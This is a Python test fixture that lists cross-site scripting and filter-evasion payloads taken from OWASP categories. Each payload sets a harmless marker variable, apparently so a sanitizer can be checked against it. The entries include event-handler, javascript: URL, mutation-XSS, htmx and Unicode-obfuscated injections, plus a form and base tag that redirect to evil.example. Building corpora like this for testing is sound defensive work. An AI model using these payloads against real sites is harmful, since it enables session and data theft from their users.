"""What people have made others' pages run scripts with; each tells on itself where it works.

From the kinds in the OWASP cheat sheet on filter evasion: tags, attributes, addresses, templates, entities, encodings,
half tags, and what survives a rewriting of the page.
"""

from __future__ import annotations

TELLS = "window.broken=1"

CORPUS = (
    f"<script>{TELLS}</script>",
    f"</title></textarea></pre></table><script>{TELLS}</script>",
    f"<img src=x onerror={TELLS}>",
    f"<svg/onload={TELLS}>",
    f'"><input autofocus onfocus={TELLS}>',
    f"' autofocus onfocus='{TELLS}",
    f'" style="animation-name:x" onanimationstart="{TELLS}',
    f"javascript:{TELLS}//",
    f'<a href="javascript:{TELLS}" id="main">x</a>',
    f'<iframe srcdoc="<script>parent.{TELLS}</script>"></iframe>',
    f"<math><mtext></table><mglyph><style><img src=x onerror={TELLS}>",
    f'<noscript><p title="</noscript><img src=x onerror={TELLS}>">',
    f"{{{{ 7*7 }}}}{{% raw %}}<script>{TELLS}</script>",
    f"${{{TELLS}}}`;{TELLS}//",
    f"&lt;script&gt;{TELLS}&lt;/script&gt;&#60;img src=x onerror={TELLS}&#62;",
    f'<div hx-get="/runs" hx-trigger="load" hx-on::load="{TELLS}">x</div>',
    f'<b hx-on:click="{TELLS}" data-hx-on--load="{TELLS}">x</b>',
    '<form action="https://evil.example"><button name=main>x</button></form><base href="https://evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{TELLS}"><link rel=stylesheet href=//evil.example/x>',
    f"\u202e\u2066<scr\u200bipt>{TELLS}</scr\u200bipt>\x1b]8;;javascript:{TELLS}\x07x\x1b]8;;\x07\x1b[31m",
    f"\ufeff<\uff53cript>{TELLS}\uff1c/script\uff1e<script\x0c>{TELLS}</script>",
    f"--><!--<script>{TELLS}</script>]]><script>{TELLS}</script>",
)
